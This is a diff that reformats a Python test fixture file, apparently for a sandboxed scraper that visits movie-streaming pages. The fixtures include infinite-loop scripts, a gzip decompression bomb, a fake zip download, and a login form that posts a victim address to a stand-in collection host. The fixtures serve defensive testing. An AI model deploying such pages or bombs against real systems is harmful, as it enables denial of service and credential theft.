@@ -39,8 +39,12 @@ document.addEventListener('DOMContentLoaded', async () => {{
   }}; xhr.send();
 }});
 """
-ITEMS = [{"href": "https://movie-stream.example/watch/man-of-steel", "label": "Man of Steel full movie"}]
-MORE = [{"href": "https://movie-stream.example/watch/iron-man-3", "label": "Iron Man 3 full movie"}]
+ITEMS = [
+    {"href": "https://movie-stream.example/watch/man-of-steel", "label": "Man of Steel full movie"}
+]
+MORE = [
+    {"href": "https://movie-stream.example/watch/iron-man-3", "label": "Iron Man 3 full movie"}
+]
 
 _WRITTEN = base64.b64encode(b'<a href="/watch/fast-6">Fast &amp; Furious 6 HD</a>').decode()
 WRITE = f"""<html><body><p>loading</p><script>
@@ -51,9 +55,7 @@ BIG = f"""<html><body><p>page with a heavy script</p>
 <script src="https://{CDN}/big.js"></script><script src="https://{CDN}/bomb.js"></script></body></html>"""
 
 LOOP = "<html><body><p>endless</p><script>while (true) {}</script></body></html>"
-LATE_LOOP = (
-    "<html><body><p>endless later</p><script>setTimeout(() => { while (true) {} }, 50)</script></body></html>"
-)
+LATE_LOOP = "<html><body><p>endless later</p><script>setTimeout(() => { while (true) {} }, 50)</script></body></html>"
 
 FORM = f"""<html><body>
 <form id="f" method="post" action="https://{COLLECT}/login"><input name="u" value="victim@example.com">
@@ -107,14 +109,19 @@ def _json(obj: object) -> Response:
 
 def _bomb(_: Request) -> Response:
     body = gzip.compress(b"/*" + b" " * (20 * MAXSIZE) + b"*/")
-    return Response(200, body, [("Content-Type", "application/javascript"), ("Content-Encoding", "gzip")])
+    return Response(
+        200, body, [("Content-Type", "application/javascript"), ("Content-Encoding", "gzip")]
+    )
 
 
 def _zip(_: Request) -> Response:
     return Response(
         200,
         b"PK\x03\x04" + DOWNLOAD_MARKER * 50,
-        [("Content-Type", "application/zip"), ("Content-Disposition", 'attachment; filename="movie.zip"')],
+        [
+            ("Content-Type", "application/zip"),
+            ("Content-Disposition", 'attachment; filename="movie.zip"'),
+        ],
     )
 
 
